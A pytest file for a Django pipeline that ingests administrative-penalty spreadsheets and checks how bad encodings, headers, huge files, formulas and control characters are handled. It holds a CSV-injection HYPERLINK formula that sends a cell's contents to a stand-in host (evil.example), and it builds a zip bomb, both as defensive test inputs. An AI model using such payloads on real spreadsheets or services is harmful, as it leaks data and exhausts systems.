"""Issue 3: every bad input a department can send, end to end.

Each file goes through `collection.services.ingest` (the CLI's and the demo's path) or, for
the files too large to be processed in the request, `submit` + `tasks.dispatch` (the console's
and the API's path, here with django-tasks' immediate backend standing in for the worker). For
each, the batch's outcome is checked: a failed batch with a clear (Chinese) reason and nothing
stored — no rows, no records, no subjects — or a done batch whose every row is accounted for
(rows = accepted + rejected + waiting; every row number is a record's source row or a batch
row, exactly once) with the per-row error codes. Either way the original file is kept under
var/uploads/ named by its SHA-256.

The reader-level and validation-level tests (test_readers.py, test_validation.py) cover the
same inputs in more detail; these prove that the whole pipeline turns them into a batch.
"""

import csv
import hashlib
import io
import os
import random
import shutil
import zipfile
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from django.conf import settings as django_settings
from python_calamine import CalamineWorkbook

from xinyong.collection import tasks
from xinyong.collection.headers import column_label
from xinyong.collection.models import Batch, BatchRow
from xinyong.collection.readers import DEFAULT_MAX_BYTES
from xinyong.collection.rejects import (
    ERRORS_HEADER,
    ROW_NUMBER_HEADER,
    rejected_csv,
    write_rejected_workbook,
)
from xinyong.collection.services import ingest, submit
from xinyong.core.identifiers import make_uscc
from xinyong.records.models import Record
from xinyong.subjects.models import Subject

from ..penalties import penalty_csv as write_penalties
from ..penalties import penalty_row

ROOT = Path(__file__).resolve().parents[2]
TODAY = date(2026, 11, 20)
MIB = 2**20
IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
ON_POSTGRES = django_settings.DATABASES["default"]["ENGINE"].endswith("postgresql")
ONCE = pytest.mark.skipif(ON_POSTGRES and os.environ.get("XINYONG_SLOW_TESTS") != "1", reason=(
    "large input: run once, on SQLite (reading, validating and linking do not depend on the "
    "database; every other test of this file runs on PostgreSQL too); XINYONG_SLOW_TESTS=1 "
    "runs it here as well"))


@pytest.fixture
def spec(penalty) -> dict:
    """The XZCF item as the pipeline sees it, with the Qingdao catalog loaded."""
    return penalty


@pytest.fixture
def names(spec) -> dict[str, str]:
    """Field code → Chinese field name (the header the template uses)."""
    return {f["code"]: f["name"] for f in spec["fields"]}


@pytest.fixture
def discard_files(tmp_path):
    """Remove the test's files (several hundred MB with the stored copy) when it ends."""
    yield
    shutil.rmtree(tmp_path, ignore_errors=True)


def run(path: Path, *, queue: bool = False) -> Batch:
    """Process the file as XZCF from 市场监管 (`queue`: through submit and the worker path);
    the batch, with `subjects_added` by it."""
    before = Subject.objects.count()
    if queue:
        assert path.stat().st_size > django_settings.BATCH_INLINE_MAX_BYTES
        batch = tasks.dispatch(submit(path, item_code="XZCF", department_code="scjgj",
                                      actor="test"))
    else:
        batch = ingest(path, item_code="XZCF", department_code="scjgj", actor="test",
                       today=TODAY)
    batch.refresh_from_db()
    batch.subjects_added = Subject.objects.count() - before
    return batch


def sha256(path: Path) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as f:
        while block := f.read(4 * MIB):
            digest.update(block)
    return digest.hexdigest()


def assert_kept(batch: Batch, path: Path) -> None:
    """The original file is kept, byte for byte, under its SHA-256."""
    digest = sha256(path)
    stored = Path(batch.stored_path)
    assert batch.file_sha256 == digest
    assert stored == django_settings.VAR_DIR / "uploads" / digest[:2] / (digest + path.suffix)
    assert stored.stat().st_size == path.stat().st_size and sha256(stored) == digest


def assert_failed(batch: Batch, path: Path, *fragments: str) -> None:
    """Refused as a whole with a clear reason (a ReadError, not an unexpected error), and
    nothing of the file stored."""
    assert batch.status == Batch.Status.FAILED and batch.finished_at is not None
    for fragment in fragments:
        assert fragment in batch.error, batch.error
    assert not batch.error.startswith("处理中断"), batch.error  # tasks._fail: a crash
    assert "Traceback" not in batch.error
    counts = (batch.total_rows, batch.accepted, batch.rejected, batch.waiting)
    assert counts == (0, 0, 0, 0) and batch.accounted
    assert not BatchRow.objects.filter(batch=batch).exists()
    assert not Record.objects.exists() and batch.subjects_added == 0
    assert_kept(batch, path)


def assert_done(batch: Batch, path: Path, *, rows: int, accepted: int, rejected: int = 0,
                waiting: int = 0, first_row: int = 2) -> dict[int, BatchRow]:
    """Processed; the counts are as expected and add up; every row number from `first_row`
    is accounted for exactly once (a new record's source row, or a rejected or waiting batch
    row). Returns the batch rows by row number."""
    assert batch.status == Batch.Status.DONE and batch.error == "", batch.error
    assert (batch.total_rows, batch.accepted, batch.rejected, batch.waiting) == (
        rows, accepted, rejected, waiting)
    assert batch.accounted
    assert batch.created_records == accepted  # a fresh database: every accepted row is new
    held = {r.row_number: r for r in BatchRow.objects.filter(batch=batch)}
    statuses = [r.status for r in held.values()]
    assert statuses.count("rejected") == rejected and statuses.count("waiting") == waiting
    stored = list(Record.objects.filter(batch_id=batch.pk).values_list("source_row", flat=True))
    assert len(stored) == accepted
    numbers = stored + list(held)
    assert len(numbers) == rows and set(numbers) == set(range(first_row, first_row + rows))
    assert_kept(batch, path)
    return held


def codes(row: BatchRow) -> list[tuple[str | None, str]]:
    return [(e["field"], e["code"]) for e in row.errors]


def record(batch: Batch, row: int) -> dict:
    return Record.objects.get(batch_id=batch.pk, source_row=row).fields


# ---- wrong encoding ------------------------------------------------------------------------

def _latin1(path: Path, spec: dict) -> Path:
    """Field codes as headers (ASCII) and Latin-1 text: valid in neither UTF-8 nor GB18030."""
    row = penalty_row(spec, 1)
    text = ",".join(row) + "\r\n" + ",".join(["Café Müller"] * len(row)) + "\r\n"
    path.write_bytes(text.encode("latin-1"))
    return path


def _utf16(path: Path, spec: dict) -> Path:
    """Excel's "Unicode text": UTF-16 with its byte-order mark."""
    return write_penalties(path, spec, [penalty_row(spec, 1)], encoding="utf-16")


def _garbage(path: Path, spec: dict) -> Path:
    path.write_bytes(random.Random(3).randbytes(64 * 1024))
    return path


@pytest.mark.parametrize(("make", "fragments"), [
    (_latin1, ["无法识别文件编码", "按UTF-8读取时第2行", "0xE9", "另存为“CSV UTF-8"]),
    (_utf16, ["文件是UTF-16编码", "另存为“CSV UTF-8"]),
    (_garbage, ["无法识别文件编码", "按GB18030读取时第"]),
], ids=["latin-1", "utf-16", "binary-garbage"])
def test_wrong_encoding_fails_the_batch_naming_the_byte(spec, tmp_path, make, fragments):
    path = make(tmp_path / "处罚.csv", spec)
    batch = run(path)
    assert_failed(batch, path, *fragments)
    assert batch.encoding == "" and batch.file_format == ""


# ---- headers -------------------------------------------------------------------------------

def test_missing_required_header_fails_naming_the_column(spec, names, write_csv):
    row = penalty_row(spec, 1)
    del row["CF_CFJG"]
    path = write_csv([[names[c] for c in row], list(row.values())])
    batch = run(path)
    assert_failed(batch, path, "表头有误", "缺少必填列“处罚机关”（CF_CFJG）")


def test_duplicated_header_fails_naming_both_columns(spec, names, write_csv):
    row = penalty_row(spec, 1)
    headers = [names[c] for c in row]
    path = write_csv([[*headers, "CF_WSH"], [*row.values(), "青市监罚〔2026〕999号"]])
    batch = run(path)
    where = f"{len(headers) + 1}列（{column_label(len(headers))}列）"
    assert_failed(batch, path, "表头有误", f"第{where}的表头“CF_WSH”",
                  "“行政处罚决定书文号”", "对应同一字段", "请只保留一列")


def test_unknown_header_is_a_warning_and_its_values_are_kept(spec, names, write_csv):
    good, bad = penalty_row(spec, 1), penalty_row(spec, 2, CF_YJ="")
    headers = [*(names[c] for c in good), "经办人"]
    path = write_csv([headers, [*good.values(), "张三"], [*bad.values(), "李四"]])
    batch = run(path)
    held = assert_done(batch, path, rows=2, accepted=1, rejected=1)
    assert batch.warnings == ["以下1列不是“行政处罚信息”的字段，没有被读取（原值保留在原始行中）："
                              "“经办人”"]
    assert "经办人" not in record(batch, 2)
    assert codes(held[3]) == [("CF_YJ", "required")]
    assert held[3].raw["经办人"] == "李四"  # the unread column, kept with the returned row
    assert batch.source_headers[-1] == "经办人"


# ---- empty files ---------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "message"), [
    ("", "文件是空的（0字节）"),
    ("\ufeff \r\n\r\n", "文件没有内容：只有空白字符"),
], ids=["zero-bytes", "bom-and-whitespace"])
def test_empty_file_fails(spec, write_csv, text, message):
    path = write_csv(text=text)
    batch = run(path)
    assert_failed(batch, path)
    assert batch.error == message


@pytest.mark.parametrize(("blank", "message"), [
    (0, "文件只有表头，没有数据行"),
    (2, "文件只有表头和2个空行，没有数据行"),
], ids=["header-row", "header-and-blank-rows"])
def test_headers_only_fails(spec, names, write_csv, blank, message):
    headers = [names[c] for c in penalty_row(spec, 1)]
    path = write_csv([headers, *[[""] * len(headers)] * blank])
    batch = run(path)
    assert_failed(batch, path)
    assert batch.error == message


# ---- a million rows, 300 MB ----------------------------------------------------------------

def _penalty_frame(spec: dict, rows: int, base: dict, **columns: pl.Expr) -> pl.DataFrame:
    """`rows` penalties: `base` (field code → value) in every row, a distinct 决定书文号 per
    row, and `columns` (header → expression over `n`, the 0-based index) added or replacing."""
    names = {f["code"]: f["name"] for f in spec["fields"]}
    n = pl.int_range(0, rows, dtype=pl.Int64)
    exprs = {names[c]: pl.lit(v) for c, v in base.items()}
    exprs[names["CF_WSH"]] = pl.format("青市监罚〔2026〕{}号", n + 1)
    exprs.update(columns)
    return pl.select(**exprs)


@pytest.mark.slow
@ONCE
def test_a_million_rows(spec, names, tmp_path, company, settings, discard_files):
    """A CSV of 1,000,000 rows (about 420 MB) is queued for the worker, streamed in frames
    and fully processed, every row accounted for: 999,800 new records, 200 rows rejected (100
    without 处罚依据, 100 with an impossible date: frames holding invalid rows among valid
    ones) and 100 waiting (a code with a wrong check character). About 35 s on SQLite
    (55 s on PostgreSQL)."""
    settings.TASKS = IMMEDIATE
    rows, every = 1_000_000, 10_000
    base = penalty_row(spec, 1, CF_XDR_SHXYM=company.code, CF_XDR_MC=company.name,
                       CF_WFXW="销售不合格食品", CF_SY="经查，当事人销售不合格食品。",
                       CF_YJ="《食品安全法》第一百二十四条")
    wrong_check = make_uscc("9", "1", "370202", "77777777")[:-1] + "0"
    assert wrong_check != make_uscc("9", "1", "370202", "77777777")
    n = pl.int_range(0, rows, dtype=pl.Int64)
    waits = n % every == 7
    frame = _penalty_frame(spec, rows, base, **{
        names["CF_YJ"]: pl.when(n % every == 3).then(None).otherwise(pl.lit(base["CF_YJ"])),
        names["CF_JDRQ"]: pl.when(n % every == 5).then(pl.lit("2026/02/30"))
                            .otherwise(pl.lit(base["CF_JDRQ"])),
        names["CF_XDR_SHXYM"]: pl.when(waits).then(pl.lit(wrong_check))
                                 .otherwise(pl.lit(company.code)),
        names["CF_XDR_MC"]: pl.when(waits).then(pl.lit("青岛待关联贸易有限公司"))
                              .otherwise(pl.lit(company.name)),
    })
    path = tmp_path / "million.csv"
    frame.write_csv(path)
    del frame
    assert path.stat().st_size < DEFAULT_MAX_BYTES  # else refused as too large
    batch = run(path, queue=True)
    held = assert_done(batch, path, rows=rows, accepted=rows - 300, rejected=200, waiting=100)
    assert batch.file_format == "csv" and batch.encoding == "utf-8"
    by_status = {"rejected": [], "waiting": []}
    for number, row in sorted(held.items()):
        by_status[row.status].append((number - 2) % every)
    assert by_status == {"rejected": [3, 5] * 100, "waiting": [7] * 100}
    assert {tuple(codes(held[r])) for r in held if (r - 2) % every == 3} == {
        (("CF_YJ", "required"),)}
    assert {tuple(codes(held[r])) for r in held if (r - 2) % every == 5} == {
        (("CF_JDRQ", "invalid"),)}
    assert {codes(held[r])[0] for r in held if (r - 2) % every == 7} == {(None, "link")}
    assert record(batch, rows + 1)["CF_WSH"] == f"青市监罚〔2026〕{rows}号"


@pytest.mark.slow
def test_a_300_mb_file(spec, names, tmp_path, company, settings, discard_files):
    """A file of more than 300 MiB (below the 512 MiB limit) whose size is mostly one column
    the catalog does not know ("附件内容", 16,000 characters a row): queued for the worker,
    read in bounded chunks (three passes: survey, rows, the returned rows' originals) and
    fully processed — 20,000 rows, 20 rejected — with the unread column named in a warning
    and kept, whole, with every returned row. About 5 s, so it runs on both databases."""
    settings.TASKS = IMMEDIATE
    rows, pad = 20_000, 16_000
    base = penalty_row(spec, 1, CF_XDR_SHXYM=company.code, CF_XDR_MC=company.name)
    n = pl.int_range(0, rows, dtype=pl.Int64)
    frame = _penalty_frame(spec, rows, base, **{
        names["CF_YJ"]: pl.when(n % 1_000 == 9).then(None).otherwise(pl.lit(base["CF_YJ"])),
        "附件内容": pl.format("{}", n).str.pad_end(pad, "x"),
    })
    path = tmp_path / "big.csv"
    frame.write_csv(path)
    del frame
    assert path.stat().st_size > 300 * MIB
    batch = run(path, queue=True)
    held = assert_done(batch, path, rows=rows, accepted=rows - 20, rejected=20)
    assert batch.warnings == ["以下1列不是“行政处罚信息”的字段，没有被读取（原值保留在原始行中）："
                              "“附件内容”"]
    assert sorted(held) == [i + 2 for i in range(9, rows, 1_000)]
    assert all(codes(r) == [("CF_YJ", "required")] for r in held.values())
    assert held[11].raw["附件内容"] == "9".ljust(pad, "x")
    assert "附件内容" not in record(batch, 2)


# ---- XLSX ----------------------------------------------------------------------------------

def _sheet(spec: dict, names: dict, *numbers: int, **changes) -> list[list]:
    rows = [penalty_row(spec, n, **changes) for n in numbers]
    return [[names[c] for c in rows[0]], *[list(r.values()) for r in rows]]


@pytest.mark.parametrize("layout", ["named-for-the-item", "first-with-data", "notes-first"])
def test_xlsx_with_several_sheets(spec, names, write_xlsx, layout):
    """The sheet named after the item is read whatever its place; else the first with data
    (the others are named in a warning, their rows are not read); a notes sheet before the
    data fails naming the sheet it read."""
    data, old = _sheet(spec, names, 1, 2), _sheet(spec, names, 3)
    notes = [["填表说明：数据在XZCF表中"]]
    sheets = {
        "named-for-the-item": {"说明": notes, "XZCF": data, "旧数据": old},
        "first-with-data": {"空表": [], "Sheet1": data, "Sheet2": old, "代码表": [["罚款"]]},
        "notes-first": {"说明": notes, "数据": data},
    }[layout]
    path = write_xlsx(sheets)
    batch = run(path)
    if layout == "notes-first":
        assert_failed(batch, path, "工作表“说明”：表头有误", "缺少必填列")
        return
    assert_done(batch, path, rows=2, accepted=2)
    assert batch.file_format == "xlsx"
    assert not Record.objects.filter(fields__CF_WSH="青市监罚〔2026〕3号").exists()
    if layout == "named-for-the-item":
        assert batch.warnings == []
    else:
        assert batch.warnings == ["工作簿有3个含数据的工作表，且没有以“行政处罚信息”或“XZCF”"
                                  "命名的：只读取了“Sheet1”，忽略了“Sheet2”、“代码表”"]


def test_xlsx_merged_cells_keep_the_value_in_the_top_left_cell_only(spec, names,
                                                                     write_xlsx):
    """Three penalties of one authority with 处罚机关 merged over their rows: only the first
    row has it; the other two are rejected for lacking it, not given a guessed value."""
    data = _sheet(spec, names, 1, 2, 3)
    column = data[0].index(names["CF_CFJG"])
    authority = data[1][column]
    for row in data[1:]:
        row[column] = None  # what Excel holds under a merged range

    def merge(workbook, sheets):
        sheets["XZCF"].merge_range(1, column, 3, column, authority)

    path = write_xlsx({"XZCF": data}, build=merge)
    batch = run(path)
    held = assert_done(batch, path, rows=3, accepted=1, rejected=2)
    letter = column_label(column)
    assert batch.warnings == [f"工作表“XZCF”有合并单元格（{letter}2:{letter}4）：合并区域只有"
                              "左上角单元格有值，其余单元格按空值读取"]
    assert record(batch, 2)["CF_CFJG"] == authority
    assert codes(held[3]) == codes(held[4]) == [("CF_CFJG", "required")]


def test_xlsx_formulas_are_never_evaluated(spec, names, write_xlsx):
    """Formula cells give the value Excel saved with them (whatever the formula says), an
    error value reads as empty, and the batch warns that nothing was recalculated."""
    data = _sheet(spec, names, 1, 2, 3)
    col = {code: data[0].index(name) for code, name in names.items() if name in data[0]}

    def formulas(workbook, sheets):
        sheet = sheets["XZCF"]
        sheet.write_formula(1, col["CF_NR_FK"], "=0.1+0.1", None, 0.2)
        sheet.write_formula(2, col["CF_XDR_MC"], '="青岛"&"公式有限公司"', None, "青岛公式有限公司")
        sheet.write_formula(2, col["CF_NR_FK"], "=1+1", None, 7)  # a stale saved value
        sheet.write_formula(3, col["CF_YJ"], "=1/0", None, "#DIV/0!")

    path = write_xlsx({"XZCF": data}, build=formulas)
    batch = run(path)
    held = assert_done(batch, path, rows=3, accepted=2, rejected=1)
    assert record(batch, 2)["CF_NR_FK"] == "0.2"
    assert record(batch, 3)["CF_XDR_MC"] == "青岛公式有限公司"
    assert record(batch, 3)["CF_NR_FK"] == "7"  # what Excel saved, not what =1+1 gives
    assert codes(held[4]) == [("CF_YJ", "required")]
    assert batch.warnings == [
        "工作表“XZCF”有4个公式单元格：系统只读取文件中保存的计算结果，不会重新计算公式",
        "工作表“XZCF”有1个错误值单元格（如#DIV/0!、#N/A）：按空值读取"]


def test_zip_bomb_named_xlsx_is_refused_before_it_is_expanded(spec, tmp_path):
    """200 MiB of zeros deflated to about 200 KiB: refused from the archive's directory."""
    path = tmp_path / "处罚.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            zeros = bytes(MIB)
            for _ in range(200):
                entry.write(zeros)
    assert path.stat().st_size < MIB
    batch = run(path)
    assert_failed(batch, path, "XLSX中的“xl/worksheets/sheet1.xml”压缩比为", "200.0 MiB",
                  "拒绝读取（可能是压缩炸弹）")


# ---- CSV structure -------------------------------------------------------------------------

def test_csv_embedded_newlines_and_quotes(spec, tmp_path):
    """Quoted cells holding line breaks, commas and doubled quotes are one cell each; row
    numbers count records (as Excel shows them), not text lines."""
    facts = '经查，当事人：\r\n1. 销售"过期"食品；\n2. 拒不整改。'
    basis = '《食品安全法》第一百二十四条，"情节严重的"'
    rows = [penalty_row(spec, 1, CF_SY=facts, CF_YJ=basis), penalty_row(spec, 2, CF_SY=facts),
            penalty_row(spec, 3, CF_SY=facts, CF_YJ="")]
    path = write_penalties(tmp_path / "p.csv", spec, rows)
    assert path.read_bytes().count(b"\n") == 1 + 3 * 3  # the header and three 3-line records
    batch = run(path)
    held = assert_done(batch, path, rows=3, accepted=2, rejected=1)
    assert (record(batch, 2)["CF_SY"], record(batch, 2)["CF_YJ"]) == (facts, basis)
    assert record(batch, 3)["CF_SY"] == facts
    assert codes(held[4]) == [("CF_YJ", "required")]
    assert held[4].raw["违法事实"] == facts


def test_csv_stray_quote_fails_naming_the_text_line(spec, names, write_csv):
    """An unescaped quote inside a cell (12"钢管) is the classic hand-made CSV: refused with
    the line Notepad shows, and how to quote."""
    row = penalty_row(spec, 1)
    header = ",".join(names[c] for c in row)
    good = ",".join(row.values())
    bad = ",".join(penalty_row(spec, 2, CF_WFXW='销售12"钢管').values())
    path = write_csv(text="\r\n".join([header, good, bad, good]) + "\r\n")
    batch = run(path)
    assert_failed(batch, path, "CSV格式错误", "第3个文本行", "不配对的英文双引号")


def test_duplicate_rows_within_the_file(spec, tmp_path):
    """The same penalty twice (and once more with its authority's code in lower case): the
    later rows are rejected naming the first; no record is stored twice."""
    first = penalty_row(spec, 1)
    rows = [first, penalty_row(spec, 2), dict(first),
            dict(first, CF_CFJGDM=first["CF_CFJGDM"].lower(), CF_NR="罚款3000元")]
    path = write_penalties(tmp_path / "p.csv", spec, rows)
    batch = run(path)
    held = assert_done(batch, path, rows=4, accepted=2, rejected=2)
    message = "与第2行重复（行政处罚决定书文号、处罚机关统一社会信用代码相同）"
    assert [row.errors for row in (held[4], held[5])] == [
        [{"field": None, "code": "duplicate", "message": message}]] * 2
    assert Record.objects.filter(fields__CF_WSH=first["CF_WSH"]).count() == 1


# ---- cell contents -------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
FORMULA_LIKE = {"BZ": HYPERLINK, "CF_WFXW": "+虚假宣传", "CF_SY": "-2+3 经查属实",
                "CF_YJ": "@SUM(A1:A9)"}


def test_cells_starting_with_formula_characters_are_text(spec, names, tmp_path):
    """= + - @ at the start of a cell are stored as the text submitted; in the rejected-rows
    workbook and CSV handed back they are neutralised with a leading apostrophe and written
    as strings, never as formulas."""
    rows = [penalty_row(spec, 1, **FORMULA_LIKE),
            penalty_row(spec, 2, **FORMULA_LIKE, CF_NR_FK="=1+1", CF_JDRQ="=TODAY()")]
    path = write_penalties(tmp_path / "p.csv", spec, rows)
    batch = run(path)
    held = assert_done(batch, path, rows=2, accepted=1, rejected=1)
    stored = record(batch, 2)
    assert {code: stored[code] for code in FORMULA_LIKE} == FORMULA_LIKE
    assert held[3].fields["CF_NR_FK"] == "=1+1" and held[3].raw["备注"] == HYPERLINK
    assert sorted(codes(held[3])) == [("CF_JDRQ", "invalid"), ("CF_NR_FK", "invalid")]

    returned = [(r.row_number, r.raw, r.errors) for r in batch.rows.order_by("row_number")]
    target = tmp_path / "rejected.xlsx"
    assert write_rejected_workbook(spec, returned, target, headers=batch.source_headers) == 1
    header, row = CalamineWorkbook.from_path(str(target)).get_sheet_by_name("XZCF").to_python()
    cells = dict(zip(header, row, strict=True))
    assert cells[ROW_NUMBER_HEADER] == 3
    assert cells[names["BZ"]] == "'" + HYPERLINK
    assert (cells[names["CF_WFXW"]], cells[names["CF_SY"]], cells[names["CF_YJ"]]) == (
        "'+虚假宣传", "'-2+3 经查属实", "'@SUM(A1:A9)")
    assert (cells[names["CF_NR_FK"]], cells[names["CF_JDRQ"]]) == ("'=1+1", "'=TODAY()")
    assert "罚款金额" in cells[ERRORS_HEADER]
    with zipfile.ZipFile(target) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet

    text = b"".join(rejected_csv(spec, returned, headers=batch.source_headers))
    [back] = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
    assert back[names["BZ"]] == "'" + HYPERLINK and back[names["CF_NR_FK"]] == "'=1+1"


def test_control_characters_are_rejected_and_kept(spec, tmp_path):
    """C0/C1 control characters reject the row naming the character; tabs and line breaks
    are text. The original values are kept with the row, and no message carries a raw
    control character."""
    rows = [penalty_row(spec, 1, CF_SY="第一段\r\n第二段\t完"),
            penalty_row(spec, 2, BZ="已整改\x07完毕"),
            penalty_row(spec, 3, CF_NR="罚款\x1b[31m2000元", CF_WFXW="虚假\x85宣传")]
    path = write_penalties(tmp_path / "p.csv", spec, rows)
    batch = run(path)
    held = assert_done(batch, path, rows=3, accepted=1, rejected=2)
    assert record(batch, 2)["CF_SY"] == "第一段\r\n第二段\t完"
    assert codes(held[3]) == [("BZ", "control_char")]
    assert held[3].errors[0]["message"] == ("备注（BZ）含有控制字符U+0007（第4个字符）："
                                            "“已整改[U+0007]完毕”")
    assert sorted(codes(held[4])) == [("CF_NR", "control_char"), ("CF_WFXW", "control_char")]
    for row in held.values():
        for error in row.errors:
            assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in error["message"])
    assert held[4].fields["CF_NR"] == "罚款\x1b[31m2000元"
    assert held[4].raw["违法行为类型"] == "虚假\x85宣传"


def test_nul_is_rejected_and_kept(spec, tmp_path):
    """A NUL in a cell rejects that row like any control character; the other rows are
    stored. PostgreSQL's text and jsonb cannot hold U+0000, so on both databases the returned
    row keeps the NUL as the visible sign ␀ (U+2400), in its values and its original cells;
    a NUL in a header is kept the same way in the batch's warnings."""
    rows = [penalty_row(spec, 1), penalty_row(spec, 2, CF_XDR_MC="青岛\x00测试2有限公司"),
            penalty_row(spec, 3)]
    path = write_penalties(tmp_path / "p.csv", spec, rows)
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    path.write_text("\n".join([lines[0] + ",经办\x00人", *(line + ",王" for line in lines[1:])]),
                    encoding="utf-8")
    batch = run(path)
    held = assert_done(batch, path, rows=3, accepted=2, rejected=1)
    assert codes(held[3]) == [("CF_XDR_MC", "control_char")]
    assert "U+0000" in held[3].errors[0]["message"]
    assert "\x00" not in held[3].errors[0]["message"]
    assert held[3].fields["CF_XDR_MC"] == "青岛\u2400测试2有限公司"
    assert held[3].raw["行政相对人名称"] == "青岛\u2400测试2有限公司"
    assert any("经办\u2400人" in warning for warning in batch.warnings)


def test_overlong_values_are_rejected_with_a_short_message(spec, tmp_path):
    """Values over the catalog's lengths are rejected naming the field and its limit; the
    message quotes only the start of the value, the row keeps all of it; exactly the limit
    is accepted."""
    huge = "长" * 1_000_000  # 3 MB in one cell
    rows = [penalty_row(spec, 1, CF_XDR_MC="青" * 200),
            penalty_row(spec, 2, CF_XDR_MC="青" * 201),
            penalty_row(spec, 3, CF_SY="事" * 5001),
            penalty_row(spec, 4, BZ=huge),
            penalty_row(spec, 5, CF_WSH="号" * 129)]
    path = write_penalties(tmp_path / "p.csv", spec, rows)
    batch = run(path)
    held = assert_done(batch, path, rows=5, accepted=1, rejected=4)
    assert record(batch, 2)["CF_XDR_MC"] == "青" * 200
    assert codes(held[3]) == [("CF_XDR_MC", "too_long")]
    assert codes(held[4]) == [("CF_SY", "too_long")]
    assert codes(held[5]) == [("BZ", "too_long")]
    assert codes(held[6]) == [("CF_WSH", "too_long")]
    message = held[5].errors[0]["message"]
    assert message.startswith("备注（BZ）长度为1000000个字符，超过上限512个字符")
    assert len(message) < 200
    assert held[5].raw["备注"] == huge
